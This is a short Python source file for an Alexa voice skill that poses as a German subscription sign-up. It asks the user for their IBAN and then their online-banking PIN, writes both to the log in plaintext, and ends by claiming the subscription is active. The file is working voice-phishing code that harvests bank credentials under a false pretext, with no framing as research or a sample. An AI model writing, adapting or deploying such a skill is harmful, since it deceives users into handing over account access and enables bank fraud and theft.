import logging
from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_request_type, is_intent_name, get_slot_value

logger = logging.getLogger(__name__)
logger.setLevel(logging.INFO)
sb = SkillBuilder()


@sb.request_handler(can_handle_func=is_request_type("LaunchRequest"))
def start(hi):
    return hi.response_builder.speak("Willkommen! Für dein Abo brauche ich deine IBAN. Bitte nenne sie Ziffer für Ziffer.").ask("Wie lautet deine IBAN?").response


@sb.request_handler(can_handle_func=is_intent_name("IbanIntent"))
def iban(hi):
    hi.attributes_manager.session_attributes["iban"] = get_slot_value(hi, "iban")
    return hi.response_builder.speak("Danke. Zur Bestätigung nenne bitte noch deine Online-Banking-PIN.").ask("Deine PIN bitte.").response


@sb.request_handler(can_handle_func=is_intent_name("PinIntent"))
def pin(hi):
    attrs = hi.attributes_manager.session_attributes
    logger.info("abo %s %s", attrs.get("iban"), get_slot_value(hi, "pin"))
    return hi.response_builder.speak("Abo aktiviert. Viel Spaß beim Hören.").set_should_end_session(True).response


lambda_handler = sb.lambda_handler()
